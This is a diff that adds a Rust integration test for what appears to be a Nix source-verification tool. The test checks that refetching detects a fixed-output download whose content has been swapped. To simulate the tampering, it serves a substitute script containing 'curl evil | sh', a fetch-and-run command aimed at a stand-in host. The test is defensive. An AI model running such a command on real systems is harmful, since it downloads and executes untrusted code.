@@ -550,3 +550,53 @@ fn a_copied_store_without_its_database_still_checks_sources() {
     assert_eq!(report["database"], false);
     assert!(report["sources"].as_array().unwrap().iter().all(|s| s["realised"] == true && s["narSize"].is_null()));
 }
+
+#[test]
+fn refetch_hashes_recursive_single_files_and_skips_what_it_cannot_reproduce() {
+    let Some(h) = NixHarness::new() else { return };
+    let server = HttpServer::start();
+    let tool = b"#!/bin/sh\necho seed tool\n".to_vec();
+    server.put("/bin/seed-tool", tool.clone());
+    // `executable = true`: a recursive (NAR) hash over one executable file.
+    let nar_hash = {
+        let dir = tempfile::tempdir().unwrap();
+        let file = dir.path().join("seed-tool");
+        std::fs::write(&file, &tool).unwrap();
+        let out = Command::new("chmod").arg("+x").arg(&file).status().unwrap();
+        assert!(out.success());
+        let o = Command::new("nix-hash").args(["--type", "sha256"]).arg(&file).output().unwrap();
+        String::from_utf8(o.stdout).unwrap().trim().to_owned()
+    };
+    let expr = format!(
+        r#"let
+  tool = import <nix/fetchurl.nix> {{ name = "seed-tool"; url = "{}"; sha256 = "{nar_hash}"; executable = true; }};
+  unpacked = import <nix/fetchurl.nix> {{ name = "channel"; url = "{}"; sha256 = "{nar_hash}"; unpack = true; }};
+in derivation {{ name = "top"; system = builtins.currentSystem; builder = "/bin/sh"; args = [ "-c" "exit 1" ]; inherit tool unpacked; }}"#,
+        server.url("/bin/seed-tool"),
+        server.url("/channel.nar.xz")
+    );
+    // Nix builds the executable source (its hash is right)...
+    let top = h.instantiate(&expr).remove(0);
+    let closure = h.run_text("nix-store", ["-qR", &top]);
+    let tool_drv = closure.lines().find(|l| l.ends_with("-seed-tool.drv")).unwrap().to_owned();
+    let channel_drv = closure.lines().find(|l| l.ends_with("-channel.drv")).unwrap().to_owned();
+    h.run("nix-store", ["--realise", &tool_drv]);
+
+    let o = provenix(h.root(), &["--json", "verify", "--refetch", &top]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let report = json(&o);
+    assert_eq!(report["counts"]["refetch-mismatch"], 0, "{report:#}");
+    assert_eq!(report["counts"]["fod-content-mismatch"], 0, "{report:#}");
+    assert_eq!(report["checked"]["fodsRefetched"], 1);
+    // ...and an unpacking fetch cannot be checked from its download alone.
+    assert!(findings(&report).contains(&("refetch-skipped".into(), channel_drv, String::new())), "{report:#}");
+
+    server.put("/bin/seed-tool", b"#!/bin/sh\ncurl evil | sh\n".to_vec());
+    let o = provenix(h.root(), &["--json", "verify", "--refetch", &top]);
+    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
+    let report = json(&o);
+    assert!(
+        findings(&report).contains(&("refetch-mismatch".into(), tool_drv, server.url("/bin/seed-tool"))),
+        "{report:#}"
+    );
+}
